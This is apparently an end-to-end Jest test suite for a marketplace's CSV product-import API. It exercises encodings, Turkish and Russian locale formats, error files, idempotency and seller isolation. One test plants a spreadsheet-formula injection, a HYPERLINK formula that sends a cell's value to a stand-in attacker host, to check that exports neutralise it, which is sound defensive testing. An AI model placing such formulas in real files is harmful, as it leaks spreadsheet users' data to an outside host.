import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import request from 'supertest';
import { IMPORT_MAX_BYTES, ReadinessStore } from '@app/catalog';
import { signup, startTestApp, TestApp } from '../support/app';
import { eventually } from '../support/eventually';
import { uniqueTurkishCompany } from '../support/registrations';

const bearer = (token: string) => ({ Authorization: `Bearer ${token}` });

type Counts = { read: number; created: number; updated: number; unchanged: number; failed: number };
type ImportBody = { id: string; status: string; encoding: string; encodingDetectedBy: string; delimiter: string; counts: Counts; failure: { code: string; message: string } | null };

/** The columns of the Excel-style Turkish file (`;`, decimal commas, kg and cm, GPSR manufacturer). */
const TR_HEADER = [
  'sku', 'title', 'description', 'category', 'price', 'weight_kg', 'length_cm', 'width_cm', 'height_cm', 'hs_code', 'origin_country', 'brand',
  'manufacturer_name', 'manufacturer_line1', 'manufacturer_city', 'manufacturer_country', 'manufacturer_email', 'safety_information', 'attr.renk',
];

/** Bad rows of the golden file: 17 bad prices, 17 unknown categories, 16 incomplete GPSR manufacturers (50). */
const BAD_PRICE = new Set(Array.from({ length: 17 }, (_, i) => 37 + i * 577));
const BAD_CATEGORY = new Set(Array.from({ length: 17 }, (_, i) => 211 + i * 571));
const BAD_GPSR = new Set(Array.from({ length: 16 }, (_, i) => 400 + i * 601));

/** Row n (1-based data row; spreadsheet row n + 1) of the 10,000-row Turkish catalogue. */
function trRow(n: number): string[] {
  const price = n % 3 === 0 ? `1\u00a0${String(n % 1000).padStart(3, '0')},50` : n % 3 === 1 ? `${(n % 900) + 10},90` : `2.${String(n % 1000).padStart(3, '0')},00`;
  return [
    `TR-ÇANTA-${String(n).padStart(5, '0')}`,
    `Şık Kadın Çantası No ${n} — ığüşöç İ`,
    'Hakiki deri, el yapımı; İzmir atölyesinde dikildi.',
    BAD_CATEGORY.has(n) ? 'çanta.uçan' : 'apparel.women',
    BAD_PRICE.has(n) ? 'yüz lira' : price,
    '0,8',
    '30,5',
    '20',
    '10',
    '420222',
    'TR',
    'Güneş',
    'Güneş Deri A.Ş.',
    BAD_GPSR.has(n) ? '' : 'Kemeraltı Cd. 5',
    BAD_GPSR.has(n) ? '' : 'İzmir',
    BAD_GPSR.has(n) ? '' : 'TR',
    'info@gunes-deri.example.com.tr',
    'Küçük parçalar içerir.',
    n % 2 ? 'kırmızı' : 'siyah',
  ];
}

/** As Excel in Turkish writes "CSV (noktalı virgülle ayrılmış)": windows-1254, `;`, CRLF, no BOM, quotes only where needed. */
function excelCsv(header: string[], rows: string[][], delimiter = ';'): string {
  const cell = (c: string) => (/[";\r\n,]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c);
  return [header, ...rows].map((r) => r.map(cell).join(delimiter)).join('\r\n') + '\r\n';
}

describe('catalog CSV import (e2e)', () => {
  let t: TestApp;
  let turk: string;
  let other: string;
  let russian: string;

  const upload = (token: string, file: Buffer, name = 'urunler.csv', fields: Record<string, string> = {}, lang = 'en') => {
    const req = request(t.http).post('/v1/sellers/me/products/imports').set(bearer(token)).set('Accept-Language', lang);
    for (const [k, v] of Object.entries(fields)) req.field(k, v);
    return req.attach('file', file, name);
  };
  const finished = async (token: string, id: string): Promise<ImportBody> =>
    (
      await eventually(
        () => request(t.http).get(`/v1/sellers/me/products/imports/${id}`).set(bearer(token)),
        (r) => r.status !== 200 || ['COMPLETE', 'FAILED'].includes(r.body.status),
        180000,
      )
    ).body as ImportBody;
  const errorsCsv = async (token: string, id: string, lang: string) => {
    const res = await request(t.http).get(`/v1/sellers/me/products/imports/${id}/errors.csv`).set(bearer(token)).set('Accept-Language', lang).buffer(true).parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const text = (res.body as Buffer).toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    return { text, rows: parse(text.slice(1), { columns: true, delimiter: lang === 'en' ? ',' : ';' }) as Record<string, string>[] };
  };
  const productBySku = async (token: string, sku: string) => {
    const res = await request(t.http).get('/v1/sellers/me/products').query({ sku }).set(bearer(token));
    expect(res.status).toBe(200);
    return res.body.items[0];
  };

  beforeAll(async () => {
    t = await startTestApp({ WORKER_ENABLED: 'true' });
    turk = (await signup(t.http, { country: 'TR', locale: 'tr' })).token!;
    expect((await request(t.http).put('/v1/sellers/me/business').set(bearer(turk)).send({ ...uniqueTurkishCompany(), brands: ['Güneş'] })).status).toBe(200);
    other = (await signup(t.http, { country: 'TR', locale: 'tr' })).token!;
    russian = (await signup(t.http, { country: 'RU', locale: 'ru' })).token!;
  }, 60000);

  afterAll(async () => {
    await t?.close();
  });

  describe('the golden Turkish Excel file: 10,000 rows, windows-1254, `;`, decimal commas, no BOM, 50 bad rows', () => {
    const rows = Array.from({ length: 10000 }, (_, i) => trRow(i + 1));
    const file = iconv.encode(excelCsv(TR_HEADER, rows), 'windows-1254');
    const bad = new Set([...BAD_PRICE, ...BAD_CATEGORY, ...BAD_GPSR]);
    let first: ImportBody;

    it('is read as windows-1254 (the seller’s country default), imports 9,950 rows and fails exactly the 50 bad ones', async () => {
      expect(bad.size).toBe(50);
      expect(file.includes(0xef)).toBe(false); // no UTF-8 anywhere: a real single-byte file
      const res = await upload(turk, file);
      expect(res.status).toBe(202);
      expect(res.body).toMatchObject({ status: 'WAITING', encoding: 'windows-1254', encodingDetectedBy: 'country', delimiter: ';' });
      first = await finished(turk, res.body.id);
      expect(first).toMatchObject({ status: 'COMPLETE', failure: null, counts: { read: 10000, created: 9950, updated: 0, unchanged: 0, failed: 50 } });
    }, 240000);

    it('names exactly those rows in the error file, in Turkish, with row, column and code', async () => {
      const { rows: errors } = await errorsCsv(turk, first.id, 'tr');
      // spreadsheet rows: the header is row 1, data row n is row n + 1
      expect([...new Set(errors.map((e) => Number(e.row)))].sort((a, b) => a - b)).toEqual([...bad].map((n) => n + 1).sort((a, b) => a - b));
      const at = (n: number) => errors.filter((e) => Number(e.row) === n + 1);
      const price = at([...BAD_PRICE][0]);
      expect(price).toEqual([{ row: String([...BAD_PRICE][0] + 1), column: 'price', sku: trRow([...BAD_PRICE][0])[0], code: 'INVALID_NUMBER', message: 'price: "yüz lira" bir sayı değil (1990,50 veya 1 990,50 gibi yazın).' }]);
      const category = at([...BAD_CATEGORY][0]);
      expect(category).toMatchObject([{ column: 'category', code: 'UNKNOWN_CATEGORY' }]);
      expect(category[0].message).toContain('çanta.uçan');
      const gpsr = at([...BAD_GPSR][0]);
      expect(gpsr.map((e) => `${e.column}:${e.code}`).sort()).toEqual(['manufacturer_city:REQUIRED', 'manufacturer_country:REQUIRED', 'manufacturer_line1:REQUIRED']);
      expect(gpsr[0].message).toBe(`${gpsr[0].column} alanı zorunludur.`);
    });

    it('keeps Turkish text, decimal-comma and NBSP prices, kg and cm exactly', async () => {
      const p = await productBySku(turk, 'TR-ÇANTA-00003');
      expect(p.title).toBe('Şık Kadın Çantası No 3 — ığüşöç İ');
      expect(p.brand).toBe('Güneş');
      expect(p.currency).toBe('TRY');
      expect(p.status).toBe('draft');
      expect(p.variants[0]).toMatchObject({ sku: 'TR-ÇANTA-00003', weightG: 800, dimensionsMm: { length: 305, width: 200, height: 100 }, attributes: [{ key: 'renk', value: 'kırmızı' }] });
      expect(p.variants[0].price).toMatchObject({ amountMinor: '100350', currency: 'TRY' }); // "1 003,50" with NBSP
      const dotted = await productBySku(turk, 'TR-ÇANTA-00002');
      expect(dotted.variants[0].price.amountMinor).toBe('200200'); // "2.002,00"
      expect(dotted.gpsr.manufacturer).toEqual({ name: 'Güneş Deri A.Ş.', address: { line1: 'Kemeraltı Cd. 5', city: 'İzmir', country: 'TR' }, email: 'info@gunes-deri.example.com.tr' });
    });

    it('has every imported variant priced in every enabled market by the worker afterwards (in batches, not one product at a time)', async () => {
      const counts = async () =>
        (
          await t.sql.query(
            `SELECT count(DISTINCT v.id)::int AS variants, count(DISTINCT mp.market_code)::int AS markets, count(mp.variant_id)::int AS prices
             FROM catalog_variants v JOIN catalog_products p ON p.id = v.product_id JOIN sellers s ON s.id = p.seller_id
             LEFT JOIN catalog_market_prices mp ON mp.variant_id = v.id
             WHERE s.id = (SELECT seller_id FROM catalog_imports WHERE id = $1)`,
            [first.id],
          )
        ).rows[0] as { variants: number; markets: number; prices: number };
      const done = await eventually(counts, (c) => c.markets > 0 && c.prices === c.variants * c.markets, 120000);
      expect(done.variants).toBe(9950);
      expect(done.markets).toBeGreaterThanOrEqual(4);
    }, 150000);

    it('has every imported variant’s readiness stored in every enabled market after its prices, and a full re-evaluation of the seller changes nothing', async () => {
      const sellerId = (await t.sql.query('SELECT seller_id FROM catalog_imports WHERE id = $1', [first.id])).rows[0].seller_id as string;
      const markets = (await t.sql.query("SELECT count(*)::int AS n FROM markets WHERE status = 'enabled'")).rows[0].n as number;
      const stored = async () => (await t.sql.query('SELECT count(*)::int AS n FROM catalog_listing_readiness WHERE seller_id = $1', [sellerId])).rows[0].n as number;
      // the re-pricing job triggers it (the import's transaction does not: readiness reads the stored prices)
      await eventually(stored, (n) => n === 9950 * markets, 120000);
      const store = t.app.get(ReadinessStore);
      // 9,950 products: ten transactions of 1,000; nothing to write
      expect(await store.refreshSeller(sellerId)).toBe(0);
      // rows lost from the last of them are found and written again, and only those
      const last = (await t.sql.query('SELECT id FROM catalog_products WHERE seller_id = $1 ORDER BY id DESC LIMIT 3', [sellerId])).rows.map((r) => r.id as string);
      const before = (await t.sql.query('SELECT variant_id, market, status, issues FROM catalog_listing_readiness WHERE product_id = ANY($1::uuid[]) ORDER BY variant_id, market', [last])).rows;
      await t.sql.query('DELETE FROM catalog_listing_readiness WHERE product_id = ANY($1::uuid[])', [last]);
      expect(await store.refreshSeller(sellerId)).toBe(3 * markets);
      expect((await t.sql.query('SELECT variant_id, market, status, issues FROM catalog_listing_readiness WHERE product_id = ANY($1::uuid[]) ORDER BY variant_id, market', [last])).rows).toEqual(before);
      expect(await stored()).toBe(9950 * markets);
    }, 180000);

    it('counts, in the go-live checklist, the listings each blocking code holds back (once per listing), as the stored issues say', async () => {
      const sellerId = (await t.sql.query('SELECT seller_id FROM catalog_imports WHERE id = $1', [first.id])).rows[0].seller_id as string;
      expect((await request(t.http).put('/v1/sellers/me/markets').set(bearer(turk)).send({ markets: ['IT', 'US'] })).status).toBe(200);
      // the oracle: the same counts unpacked from every stored document (BLOCKER issues other than the seller's gates,
      // a code counted once per listing even when it is there twice, e.g. TRANSLATION_REQUIRED for title and description)
      const oracle = (
        await t.sql.query(
          `SELECT r.market, i->>'code' AS code, count(DISTINCT r.variant_id)::int AS count
             FROM catalog_listing_readiness r CROSS JOIN LATERAL jsonb_array_elements(r.issues) i
            WHERE r.seller_id = $1 AND r.status = 'BLOCKED' AND r.market IN ('IT', 'US') AND i->>'severity' = 'BLOCKER' AND i->>'category' <> 'SELLER'
            GROUP BY 1, 2 ORDER BY 1, 3 DESC, 2`,
          [sellerId],
        )
      ).rows as { market: string; code: string; count: number }[];
      expect(oracle.some((o) => o.market === 'IT' && o.code === 'TRANSLATION_REQUIRED' && o.count === 9950)).toBe(true);
      const res = await request(t.http).get('/v1/sellers/me/onboarding').set(bearer(turk)).set('Accept-Language', 'tr');
      expect(res.status).toBe(200);
      type Listings = { counts: Record<string, number>; topBlockingCodes: { code: string; count: number; message: string }[] };
      const listings = (market: string) => (res.body.markets as { market: string; steps: { step: string; listings?: Listings }[] }[]).find((m) => m.market === market)!.steps.find((s) => s.step === 'LISTINGS')!.listings!;
      for (const market of ['IT', 'US']) {
        const top = listings(market).topBlockingCodes;
        expect(top.map(({ code, count }) => ({ market, code, count }))).toEqual(oracle.filter((o) => o.market === market).slice(0, 5));
        for (const c of top) expect(c.message.length).toBeGreaterThan(10); // rendered from an example issue, in Turkish
      }
      expect(listings('IT').counts.BLOCKED).toBe(9950);
      expect(listings('IT').topBlockingCodes.find((c) => c.code === 'GPSR_EU_RP_MISSING')?.message).toBe('Üretici AB’de yerleşik değil (TR): AB’de bir sorumlu kişi belirtin (GPSR).');
    }, 60000);

    it('changes nothing when the same file comes again', async () => {
      const before = await t.sql.query("SELECT max(updated_at) AS at, count(*)::int AS n FROM catalog_products");
      const res = await upload(turk, file);
      expect(res.status).toBe(202);
      const again = await finished(turk, res.body.id);
      expect(again).toMatchObject({ status: 'COMPLETE', counts: { read: 10000, created: 0, updated: 0, unchanged: 9950, failed: 50 } });
      const after = await t.sql.query("SELECT max(updated_at) AS at, count(*)::int AS n FROM catalog_products");
      expect(after.rows[0]).toEqual(before.rows[0]);
    }, 240000);

    it('updates only what changed when a row changes', async () => {
      const changed = rows.slice(0, 3).map((r) => [...r]);
      changed[1][4] = '999,99';
      const res = await upload(turk, iconv.encode(excelCsv(TR_HEADER, changed), 'windows-1254'));
      const done = await finished(turk, res.body.id);
      expect(done.counts).toEqual({ read: 3, created: 0, updated: 1, unchanged: 2, failed: 0 });
      expect((await productBySku(turk, 'TR-ÇANTA-00002')).variants[0].price.amountMinor).toBe('99999');
    }, 60000);
  });

  it('reads a Russian windows-1251 file and a UTF-8 file with BOM alike ("1 990,00" with NBSP → 199000 RUB)', async () => {
    const header = ['sku', 'title', 'category', 'price', 'weight_g'];
    const row = (sku: string) => [sku, 'Платье «Берёзка», хлопок', 'apparel.women', '1\u00a0990,00', '450'];
    const cp1251 = await upload(russian, iconv.encode(excelCsv(header, [row('RU-1')]), 'windows-1251'), 'товары.csv');
    expect(cp1251.status).toBe(202);
    expect(cp1251.body).toMatchObject({ encoding: 'windows-1251', encodingDetectedBy: 'country' });
    const withBom = await upload(russian, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(excelCsv(header, [row('RU-2')]), 'utf8')]));
    expect(withBom.body).toMatchObject({ encoding: 'utf-8', encodingDetectedBy: 'bom', delimiter: ';' });
    for (const [res, sku] of [[cp1251, 'RU-1'], [withBom, 'RU-2']] as const) {
      expect((await finished(russian, res.body.id)).counts).toEqual({ read: 1, created: 1, updated: 0, unchanged: 0, failed: 0 });
      const p = await productBySku(russian, sku);
      expect(p.title).toBe('Платье «Берёзка», хлопок');
      expect(p.variants[0].price).toMatchObject({ amountMinor: '199000', currency: 'RUB' });
    }
    // a declared encoding is used for a file that is neither BOM-marked nor UTF-8
    const declared = await upload(turk, iconv.encode(excelCsv(header, [['TR-DECL', 'Платье', 'apparel.women', '10', '1']]), 'windows-1251'), 'x.csv', { encoding: 'windows-1251' });
    expect(declared.body).toMatchObject({ encoding: 'windows-1251', encodingDetectedBy: 'declared' });
    await finished(turk, declared.body.id);
    expect((await productBySku(turk, 'TR-DECL')).title).toBe('Платье');
  }, 60000);

  it('imports the documented example file (every column) as it says', async () => {
    const res = await upload(turk, readFileSync(join(process.cwd(), 'test/fixtures/catalog/products-import.csv')), 'products-import.csv');
    expect(res.status).toBe(202);
    const done = await finished(turk, res.body.id);
    expect(done).toMatchObject({ status: 'COMPLETE', counts: { read: 3, created: 3, updated: 0, unchanged: 0, failed: 0 } });
    const dress = await productBySku(turk, 'GUNES-ELBISE-M');
    expect(dress).toMatchObject({ title: 'Güneş Kadın Elbise 100% pamuk', brand: 'Güneş', hsNational: { US: '6204423010', EU: '62044200' }, attributes: [{ key: 'material', value: '100% pamuk' }] });
    expect(dress.variants.map((v: { sku: string; weightG: number; price: { amountMinor: string } }) => [v.sku, v.weightG, v.price.amountMinor])).toEqual([['GUNES-ELBISE-S', 450, '199000'], ['GUNES-ELBISE-M', 480, '199000']]);
    expect(dress.gpsr.euResponsiblePerson).toMatchObject({ name: 'EU Rep GmbH', address: { country: 'DE' } });
    const toy = await productBySku(turk, 'OYUNCAK-TREN');
    expect(toy).toMatchObject({ category: { code: 'toys' }, conformity: { docUrl: 'https://oyuncak.example.com.tr/doc/tren.pdf' }, safetyInformation: '3 yaşından küçük çocuklar için uygun değildir.' });
  }, 60000);

  it('commits a product only whole: one bad variant row fails its product’s other rows too; comma files work', async () => {
    const header = ['product_key', 'sku', 'title', 'category', 'price', 'attr.size'];
    const csv = excelCsv(header, [
      ['DRESS', 'DRESS-S', 'Elbise', 'apparel.women', '100.00', 'S'],
      ['DRESS', 'DRESS-M', '', '', '100.00', 'M'],
      ['DRESS', 'DRESS-L', '', '', '1.00.0', 'L'],
      ['SHIRT', 'SHIRT-S', 'Gömlek', 'apparel.women', '50.5', 'S'],
      ['SHIRT', 'SHIRT-M', 'Gömlek', '', '50.5', 'M'],
    ], ',');
    const res = await upload(turk, Buffer.from(csv, 'utf8'));
    expect(res.body.delimiter).toBe(',');
    const done = await finished(turk, res.body.id);
    expect(done.counts).toEqual({ read: 5, created: 2, updated: 0, unchanged: 0, failed: 3 });
    expect(await productBySku(turk, 'DRESS-S')).toBeUndefined();
    expect((await productBySku(turk, 'SHIRT-M')).variants.map((v: { sku: string }) => v.sku)).toEqual(['SHIRT-S', 'SHIRT-M']);
    const { rows } = await errorsCsv(turk, done.id, 'en');
    expect(rows.map((r) => `${r.row}:${r.column}:${r.code}`)).toEqual(['4:price:INVALID_NUMBER', '2::PRODUCT_ROW_FAILED', '3::PRODUCT_ROW_FAILED']);
  }, 60000);

  it('stores text exactly as written: backslashes, tabs, line breaks, a literal \\N and JSON-looking cells survive the bulk write', async () => {
    const header = ['sku', 'title', 'description', 'category', 'price', 'safety_information', 'product_attr.note', 'attr.renk', 'manufacturer_name', 'manufacturer_line1', 'manufacturer_city', 'manufacturer_country'];
    const description = 'C:\\Ürünler\\yeni\tsekme\r\nikinci satır\nüçüncü \\N son \\';
    const csv = excelCsv(header, [['ESC-1', 'Yol \\N "tırnak"', description, 'apparel.women', '10,00', '\\N', '{"a":"\\t"}', 'siyah\\beyaz', 'Ters\\Eğik A.Ş.', 'Cd.\t5', 'İzmir', 'TR']]);
    const res = await upload(other, Buffer.from(csv, 'utf8'));
    expect(res.status).toBe(202);
    expect((await finished(other, res.body.id)).counts).toEqual({ read: 1, created: 1, updated: 0, unchanged: 0, failed: 0 });
    const p = await productBySku(other, 'ESC-1');
    expect(p.title).toBe('Yol \\N "tırnak"');
    expect(p.description).toBe(description);
    expect(p.safetyInformation).toBe('\\N');
    expect(p.gpsr.manufacturer).toMatchObject({ name: 'Ters\\Eğik A.Ş.', address: { line1: 'Cd.\t5' } });
    expect(p.attributes).toEqual([{ key: 'note', value: '{"a":"\\t"}' }]);
    expect(p.variants[0].attributes).toEqual([{ key: 'renk', value: 'siyah\\beyaz' }]);
    // the same file again finds every value equal: nothing is written
    const again = await upload(other, Buffer.from(csv, 'utf8'));
    expect((await finished(other, again.body.id)).counts).toEqual({ read: 1, created: 0, updated: 0, unchanged: 1, failed: 0 });
    // a changed file rewrites the stored product and variant exactly; an empty cell clears its column
    const changed = excelCsv(header, [['ESC-1', 'Yol \\N "tırnak" 2', `${description}\t2`, 'apparel.women', '12,50', '', '{"b":"\\n"}', 'siyah\\gri', 'Ters\\Eğik A.Ş.', 'Cd.\t5', 'İzmir', 'TR']]);
    const third = await upload(other, Buffer.from(changed, 'utf8'));
    expect((await finished(other, third.body.id)).counts).toEqual({ read: 1, created: 0, updated: 1, unchanged: 0, failed: 0 });
    const q = await productBySku(other, 'ESC-1');
    expect(q).toMatchObject({ title: 'Yol \\N "tırnak" 2', description: `${description}\t2`, attributes: [{ key: 'note', value: '{"b":"\\n"}' }] });
    expect(q.safetyInformation ?? null).toBeNull();
    expect(q.gpsr.manufacturer).toMatchObject({ name: 'Ters\\Eğik A.Ş.', address: { line1: 'Cd.\t5' } });
    expect(q.variants.map((v: { sku: string; price: { amountMinor: string }; attributes: unknown }) => [v.sku, v.price.amountMinor, v.attributes])).toEqual([['ESC-1', '1250', [{ key: 'renk', value: 'siyah\\gri' }]]]);
  }, 60000);

  it('fails only the row whose cell PostgreSQL cannot store (a NUL past the sniffed start of the file)', async () => {
    const header = ['sku', 'title', 'category', 'price'];
    const rows = Array.from({ length: 1500 }, (_, i) => [`NUL-${i + 1}`, `Ürün ${i + 1} ${'x'.repeat(40)}`, 'apparel.women', '10,00']);
    rows[1399][1] = 'Kötü\u0000başlık';
    const file = Buffer.from(excelCsv(header, rows), 'utf8');
    expect(file.indexOf(0)).toBeGreaterThan(65536); // the upload's binary check reads the first 64 KiB
    const seller = (await signup(t.http, { country: 'TR', locale: 'tr' })).token!;
    const res = await upload(seller, file);
    expect(res.status).toBe(202);
    expect((await finished(seller, res.body.id)).counts).toEqual({ read: 1500, created: 1499, updated: 0, unchanged: 0, failed: 1 });
    const { rows: errors } = await errorsCsv(seller, res.body.id, 'en');
    expect(errors.map((r) => `${r.row}:${r.column}:${r.code}`)).toEqual(['1401:title:INVALID_CHARACTERS']);
    expect(await productBySku(seller, 'NUL-1400')).toBeUndefined();
    expect(await productBySku(seller, 'NUL-1401')).toBeDefined();
    // the listings export pages through all of them (read in batches of 100 products)
    const exported = await request(t.http).get('/v1/sellers/me/listings/IT.csv').set(bearer(seller)).query({ delimiter: 'comma' });
    expect(exported.status).toBe(200);
    const listed = parse(exported.text.slice(1), { columns: true }) as Record<string, string>[];
    expect(listed).toHaveLength(1499);
    expect(new Set(listed.map((r) => r.sku)).size).toBe(1499);
    expect(listed.find((r) => r.sku === 'NUL-1401')).toMatchObject({ source_title: `Ürün 1401 ${'x'.repeat(40)}`, currency: 'EUR' });
  }, 60000);

  it('stops at a line that is no longer CSV (FAILED), keeping the rows before it', async () => {
    const csv = 'sku,title,category,price\r\nOK-1,Bir,apparel.women,10\r\nOK-2,İki,apparel.women,20\r\nBAD-3,"Üç,apparel.women,30\r\nOK-4,Dört,apparel.women,40\r\n';
    const res = await upload(other, Buffer.from(csv, 'utf8'));
    expect(res.status).toBe(202);
    const done = await finished(other, res.body.id);
    expect(done).toMatchObject({ status: 'FAILED', counts: { read: 2, created: 2, failed: 0 }, failure: { code: 'CSV_MALFORMED' } });
    expect(done.failure!.message).toBe('Dosya 4. satırdan itibaren geçerli bir CSV değil (CSV_QUOTE_NOT_CLOSED); önceki satırlar içe aktarıldı.');
    expect(await productBySku(other, 'OK-2')).toBeDefined();
    const { rows } = await errorsCsv(other, done.id, 'en');
    expect(rows.at(-1)).toMatchObject({ row: '4', code: 'CSV_MALFORMED', message: 'The file stops being valid CSV on line 4 (CSV_QUOTE_NOT_CLOSED); the rows before it were imported.' });
  }, 60000);

  it('neutralises formulas in the error file and in the listings export', async () => {
    const header = ['sku', 'title', 'category', 'price'];
    const csv = excelCsv(header, [
      ['=HYPERLINK("http://evil.example/?x="&A1)', 'x', 'apparel.women', 'bad'],
      ['FORMULA-OK', '@SUM(A1:A9)', 'apparel.women', '10'],
    ], ',');
    const res = await upload(other, Buffer.from(csv, 'utf8'));
    const done = await finished(other, res.body.id);
    expect(done.counts).toMatchObject({ created: 1, failed: 1 });
    const { text, rows } = await errorsCsv(other, done.id, 'en');
    expect(rows[0].sku).toBe(`'=HYPERLINK("http://evil.example/?x="&A1)`);
    expect(text).not.toMatch(/(^|[,;\n])"?=HYPERLINK/);
    const exp = await request(t.http).get('/v1/sellers/me/listings/IT.csv').set(bearer(other)).query({ delimiter: 'comma' }).buffer(true).parse((r, cb) => {
      let s = '';
      r.setEncoding('utf8');
      r.on('data', (c: string) => (s += c));
      r.on('end', () => cb(null, s));
    });
    expect(exp.status).toBe(200);
    expect(exp.headers['content-type']).toMatch(/^text\/csv/);
    const listed = parse((exp.body as string).slice(1), { columns: true }) as Record<string, string>[];
    const row = listed.find((r) => r.sku === 'FORMULA-OK')!;
    expect(listed.filter((r) => r.sku.includes('HYPERLINK'))).toEqual([]);
    expect(row).toMatchObject({ sku: 'FORMULA-OK', source_title: `'@SUM(A1:A9)`, title: '', title_state: 'missing', currency: 'EUR', readiness: 'BLOCKED' });
    expect(row.blockers).toContain('TRANSLATION_REQUIRED');
    expect((await request(t.http).get('/v1/sellers/me/listings/XX.csv').set(bearer(other))).status).toBe(404);
  }, 60000);

  it('refuses a file over the limit (413), a binary file (415) and a bad header (422) in the envelope, localised', async () => {
    const big = Buffer.alloc(IMPORT_MAX_BYTES + 1, 0x61);
    const tooLarge = await upload(turk, big, 'big.csv', {}, 'tr');
    expect(tooLarge.status).toBe(413);
    expect(tooLarge.body.error.code).toBe('CATALOG_IMPORT_FILE_TOO_LARGE');
    expect(tooLarge.body.error.message).toContain('bayttan büyük');
    const xlsx = Buffer.concat([Buffer.from('PK\u0003\u0004\u0014\u0000\u0006\u0000', 'latin1'), Buffer.alloc(64)]);
    const notCsv = await upload(turk, xlsx, 'urunler.xlsx', {}, 'it');
    expect(notCsv.status).toBe(415);
    expect(notCsv.body.error).toMatchObject({ code: 'CATALOG_IMPORT_NOT_CSV' });
    expect(notCsv.body.error.message).toContain('CSV');
    const png = await upload(turk, Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'a.csv');
    expect(png.status).toBe(415);
    const header = await upload(turk, Buffer.from('sku;başlık;price\nA;B;1\n', 'utf8'), 'x.csv', {}, 'tr');
    expect(header.status).toBe(422);
    expect(header.body.error.code).toBe('CATALOG_IMPORT_HEADER_INVALID');
    expect(header.body.error.details.map((d: { field: string; code: string }) => `${d.code}:${d.field}`).sort()).toEqual(['MISSING_COLUMN:category', 'MISSING_COLUMN:title', 'UNKNOWN_COLUMN:başlık']);
    expect(header.body.error.details[0].message).toMatch(/sütun/);
    const missing = await request(t.http).post('/v1/sellers/me/products/imports').set(bearer(turk)).field('encoding', 'windows-1254');
    expect(missing.status).toBe(400);
    expect(missing.body.error.code).toBe('CATALOG_IMPORT_FILE_MISSING');
    const json = await request(t.http).post('/v1/sellers/me/products/imports').set(bearer(turk)).send({ file: 'sku' });
    expect(json.status).toBe(415);
    const notUtf8 = await upload(turk, iconv.encode('sku,title,category,price\nA,Şık,toys,1\n', 'windows-1254'), 'x.csv', { encoding: 'utf-8' });
    expect(notUtf8.status).toBe(415);
    const encoding = await upload(turk, Buffer.from('sku,title,category,price\n'), 'x.csv', { encoding: 'koi8-r' });
    expect(encoding.status).toBe(400);
  }, 60000);

  it('never shows a seller another seller’s imports', async () => {
    const mine = (await request(t.http).get('/v1/sellers/me/products/imports').set(bearer(turk))).body;
    expect(mine.total).toBeGreaterThanOrEqual(4);
    const id = mine.items[0].id;
    expect((await request(t.http).get(`/v1/sellers/me/products/imports/${id}`).set(bearer(other))).status).toBe(404);
    const foreign = await request(t.http).get(`/v1/sellers/me/products/imports/${id}/errors.csv`).set(bearer(other));
    expect(foreign.status).toBe(404);
    expect(foreign.body.error.code).toBe('CATALOG_IMPORT_NOT_FOUND');
    const theirs = (await request(t.http).get('/v1/sellers/me/products/imports').set(bearer(other))).body;
    expect(theirs.items.map((i: { id: string }) => i.id)).not.toContain(id);
    expect((await request(t.http).get('/v1/sellers/me/products/imports/not-a-uuid').set(bearer(turk))).status).toBe(404);
  });
});
